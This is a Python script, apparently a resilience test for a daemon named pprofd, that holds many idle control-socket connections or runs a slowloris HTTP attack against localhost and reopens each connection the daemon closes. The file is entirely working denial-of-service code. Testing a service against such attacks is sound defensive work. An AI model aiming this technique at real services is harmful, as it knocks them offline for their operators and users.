#!/usr/bin/env python3
"""Holds N idle connections to pprofd for S seconds, opening a new one
whenever pprofd closes one (issue 12, attack 4).

  hog_conns.py unix PATH N S   control-socket connections that never send
  hog_conns.py tcp PORT N S    slowloris HTTP: a header line every 2 s

Prints what pprofd said to the connections it closed, one line each."""
import selectors
import socket
import sys
import time

mode, where, n, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
sel = selectors.DefaultSelector()
said = []


def connect():
    if mode == "unix":
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(where)
    else:
        s = socket.create_connection(("127.0.0.1", int(where)))
        s.sendall(b"GET /debug/pprof/ HTTP/1.1\r\nHost: x\r\n")
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ)


for _ in range(n):
    try:
        connect()
    except OSError:
        pass
end = time.monotonic() + secs
last_drip = time.monotonic()
while time.monotonic() < end:
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if data:
            said.append(data.decode("latin-1").replace("\r", " ").replace("\n", " "))
        sel.unregister(s)
        s.close()
        try:
            connect()  # renew, as an attacker would
        except OSError:
            pass
    if mode == "tcp" and time.monotonic() - last_drip >= 2:
        last_drip = time.monotonic()
        for key in list(sel.get_map().values()):
            try:
                key.fileobj.send(b"X-Slow: 1\r\n")
            except OSError:
                pass
sys.stdout.write("".join(x + "\n" for x in said))
